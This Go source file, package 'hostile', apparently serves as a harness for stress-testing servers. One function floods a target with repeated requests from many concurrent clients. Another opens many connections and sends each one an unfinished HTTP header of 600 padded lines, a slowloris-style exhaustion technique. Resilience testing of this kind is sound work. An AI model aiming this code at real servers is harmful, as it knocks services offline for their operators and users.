package hostile

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"time"
)

// Attack lets clients send the request that is in the file: each of them rate times a second or, if rate is 0, as fast as
// it gets responses. It reports when all of them have begun, and continues.
func Attack(ctx context.Context, address, file string, clients, rate int, out io.Writer) error {
	raw, err := os.ReadFile(file)
	if err != nil {
		return err
	}
	var begun, going sync.WaitGroup
	for i := range clients {
		begun.Add(1)
		going.Go(func() {
			client := NewClient(address)
			defer client.Close()
			pause := time.Duration(0)
			if rate > 0 {
				pause = time.Second / time.Duration(rate)
				time.Sleep(pause * time.Duration(i) / time.Duration(clients)) // otherwise all would come at once
			}
			begun.Done()
			for ctx.Err() == nil {
				asked := time.Now()
				_, _ = client.Ask(ctx, raw) // with any outcome
				time.Sleep(pause - time.Since(asked))
			}
		})
	}
	begun.Wait()
	fmt.Fprintln(out, "begun")
	going.Wait()
	return ctx.Err()
}

// Heads are connections on which a request has begun.
type Heads []net.Conn

// OpenHeads opens them, except those that the server does not accept.
func OpenHeads(ctx context.Context, address string, n int) (Heads, error) {
	head := []byte("GET / HTTP/1.1\r\nHost: h.example\r\n" + strings.Repeat("X-Other: "+strings.Repeat("x", 90)+"\r\n", 600))
	var opened Heads
	for range n {
		conn, err := new(net.Dialer).DialContext(ctx, "tcp", address)
		if err != nil {
			return opened, err
		}
		opened = append(opened, conn)
		if err := conn.SetWriteDeadline(time.Now().Add(patience)); err != nil {
			return opened, err
		}
		if _, err := conn.Write(head); err != nil {
			return opened, err
		}
	}
	return opened, nil
}

// Close ends all connections.
func (h Heads) Close() error {
	var errs []error
	for _, conn := range h {
		errs = append(errs, conn.Close())
	}
	return errors.Join(errs...)
}
